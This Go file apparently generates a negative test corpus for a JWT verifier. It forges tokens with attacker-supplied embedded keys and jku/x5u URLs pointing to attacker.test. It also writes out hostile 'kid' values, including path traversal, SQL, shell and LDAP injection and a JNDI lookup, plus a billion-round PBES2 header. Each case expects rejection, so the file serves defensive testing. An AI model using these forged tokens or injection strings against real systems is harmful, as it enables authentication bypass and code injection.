package main

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/pem"
	"strings"

	"apinto-jwt/test/corpus/forge"
)

// headerKeys: a token that brings, names or points at its own key (RFC 8725 §3.10), and one that does so to no
// purpose, because its signature is the configured key's.
func headerKeys(b *builder) {
	for _, alg := range []string{"HS256", "RS256", "ES256", "PS256", "EdDSA"} {
		theirs := b.keys.Other(alg)
		embedded := `{"alg":"` + alg + `","typ":"JWT","jwk":` + jsonText(forge.JWK(theirs)) + `}`
		b.add(alg+" jwk of the attacker", ruleOf(alg), forge.Compact(alg, theirs, embedded, payload), badSig)
		b.accept(alg+" jwk beside a good signature", ruleOf(alg), forge.Compact(alg, b.keys.Signer(alg), embedded, payload), "alice")
	}
	certificate, _ := pem.Decode([]byte(b.keys.OtherCert))
	x5c := `,"x5c":["` + base64.StdEncoding.EncodeToString(certificate.Bytes) + `"]`
	pointers := map[string]string{
		"x5c": x5c, "jku": `,"jku":"https://attacker.test/keys"`, "x5u": `,"x5u":"https://attacker.test/cert.pem"`,
		"x5t": `,"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA"`, "x5c that is no list": `,"x5c":1`, "jku to loopback": `,"jku":"http://127.0.0.1:2379/"`,
		"jwk that is no object": `,"jwk":"x"`, "iss": `,"iss":"https://issuer.test"`,
	}
	for _, name := range sorted(pointers) {
		h := `{"alg":"RS256","typ":"JWT"` + pointers[name] + `}`
		b.add(name+", signed by the attacker", "rs256", forge.Compact("RS256", b.keys.OtherRSA, h, payload), badSig)
		b.accept(name+" beside a good signature", "rs256", forge.Compact("RS256", b.keys.RSA, h, payload), "alice")
	}
	keyIDs(b)
}

// keyIDs: a "kid" that reaches a file, a database or a shell.
func keyIDs(b *builder) {
	ids := map[string][2]string{ // the ID, and the secret that it would lead to
		"path to an empty file": {"../../../../../../dev/null", ""}, "path": {"/etc/hostname", "gateway\n"},
		"SQL": {"x' UNION SELECT 'secret' -- ", "secret"}, "command": {"| echo secret", "secret"}, "URL": {"http://attacker.test/key", "secret"},
		"NUL": {"key\\u0000.pem", ""}, "LDAP": {"*)(uid=*", ""}, "template": {"${jndi:ldap://attacker.test/a}", ""}, "empty": {"", ""},
		"4 KiB": {strings.Repeat("k", 4096), ""},
	}
	for _, name := range sorted(ids) {
		h := `{"alg":"HS256","typ":"JWT","kid":"` + ids[name][0] + `"}`
		b.add("kid, "+name, mainRule, forge.Compact("HS256", ids[name][1], h, payload), badSig)
		b.accept("kid, "+name+", beside a good signature", mainRule, b.hs(h, payload), "alice")
	}
}

// crit: extensions that the token says must be understood (RFC 7515 §4.1.11).
func crit(b *builder) {
	wants := map[string]string{
		`["x"],"x":1`: critical, `["x"]`: critical, `["http://example.test/UNDEFINED"],"http://example.test/UNDEFINED":true`: critical,
		`["exp"],"exp":4102444800`: critical, `["b64"],"b64":true`: critical, `["alg"]`: critical, `["typ"]`: critical, `["crit"]`: critical,
		`["x","x"],"x":1`: critical, `["\u0078"],"x":1`: critical, `["iss"],"iss":"https://issuer.test"`: critical, `["kid"],"kid":"a"`: critical,
		`[]`: malformed, `null`: malformed, `"x"`: malformed, `1`: malformed, `{}`: malformed, `true`: malformed, `[1]`: malformed,
		`[null]`: malformed, `[""]`: malformed, `["x",1]`: malformed, `[["x"]]`: malformed, `{"0":"x"}`: malformed,
	}
	for _, value := range sorted(wants) {
		b.add(value, mainRule, b.hs(`{"alg":"HS256","typ":"JWT","crit":`+value+`}`, payload), wants[value])
	}
	b.add("escaped name", mainRule, b.hs(`{"alg":"HS256","\u0063rit":["x"]}`, payload), critical)
	b.add("at RS256", "rs256", forge.Compact("RS256", b.keys.RSA, `{"alg":"RS256","typ":"JWT","crit":["x"],"x":1}`, payload), critical)
	b.accept("in the payload it says nothing", mainRule,
		b.hs(header, `{"iss":"https://issuer.test","sub":"alice","crit":["x"]}`), "alice")
}

// b64: an unencoded payload (RFC 7797 §7: not in a JWT).
func b64(b *builder) {
	values := map[string]string{"false": malformed, `"true"`: malformed, "null": malformed, "0": malformed, "1": malformed, "[]": malformed}
	for _, value := range sorted(values) {
		b.add(value, mainRule, b.hs(`{"alg":"HS256","typ":"JWT","b64":`+value+`}`, payload), values[value])
	}
	h := `{"alg":"HS256","typ":"JWT","b64":false,"crit":["b64"]}`
	b.add("false, critical, payload encoded", mainRule, b.hs(h, payload), malformed)
	input := forge.Encode([]byte(h)) + "." + payload
	b.add("false, critical, payload as it is", mainRule, input+"."+forge.Encode(forge.Sign("HS256", b.keys.Secret, input)), malformed)
	detached := forge.Encode([]byte(h)) + ".." + forge.Encode(forge.Sign("HS256", b.keys.Secret, input))
	b.add("false, critical, payload detached", mainRule, detached, malformed)
	b.add("crit before b64", mainRule, b.hs(`{"alg":"HS256","crit":["b64"],"b64":false}`, payload), critical)
	b.accept("true", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","b64":true}`, payload), "alice")
}

// encrypted: zip, JWE, a token in a token, JSON serialisations.
func encrypted(b *builder) {
	var zipped bytes.Buffer
	w, err := flate.NewWriter(&zipped, flate.BestCompression)
	must(err)
	_, err = w.Write([]byte(payload))
	must(err)
	must(w.Close())
	b.add("zip, compressed", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","zip":"DEF"}`, zipped.String()), malformed)
	b.add("zip, not compressed", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","zip":"DEF"}`, payload), malformed)
	b.add("zip null", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","zip":null}`, payload), malformed)
	jwe := forge.Encode([]byte(`{"alg":"dir","enc":"A128GCM"}`)) + "..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"
	b.add("JWE, dir", mainRule, jwe, malformed)
	b.add("JWE, RSA-OAEP", "rs256", strings.Replace(jwe, "..", ".AAAA.", 1), malformed)
	b.add("JWE, PBES2 of a billion rounds", mainRule,
		forge.Encode([]byte(`{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":1000000000,"p2s":"AAAAAAAAAAA"}`))+".AAAA.AAAA.AAAA.AAAA", malformed)
	b.add("five parts, of them a good token", mainRule, b.hs(header, payload)+".AAAA.AAAA", malformed)
	b.add("four parts, of them a good token", mainRule, b.hs(header, payload)+".AAAA", malformed)
	b.add("four parts, the last empty", mainRule, b.hs(header, payload)+".", malformed)

	inner := b.hs(header, payload)
	b.add("a token as payload", mainRule, b.hs(header, inner), malformed)
	b.add("a token as payload, cty JWT", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","cty":"JWT"}`, inner), malformed)
	b.add("a token as JSON string", mainRule, b.hs(header, `"`+inner+`"`), malformed)
	b.add("an unsecured token as payload, cty JWT", mainRule,
		b.hs(`{"alg":"HS256","cty":"JWT"}`, forge.Compact("", nil, `{"alg":"none"}`, payload)), malformed)
	b.accept("cty on an object", mainRule, b.hs(`{"alg":"HS256","typ":"JWT","cty":"JWT"}`, payload), "alice")
	jsonSerialisations(b, inner)
}

// jsonSerialisations returns the two forms of RFC 7515 §7.2 with a good signature.
func jsonSerialisations(b *builder, inner string) {
	parts := strings.Split(inner, ".")
	flat := `{"payload":"` + parts[1] + `","protected":"` + parts[0] + `","signature":"` + parts[2] + `"}`
	general := `{"payload":"` + parts[1] + `","signatures":[{"protected":"` + parts[0] + `","signature":"` + parts[2] + `"}]}`
	b.add("flattened JSON", mainRule, flat, malformed)
	b.add("general JSON", mainRule, general, malformed)
	b.add("flattened JSON in base64url", mainRule, forge.Encode([]byte(flat)), malformed)
	b.add("JSON with dots", mainRule, `{"a":"`+inner+`"}`, malformed)
}
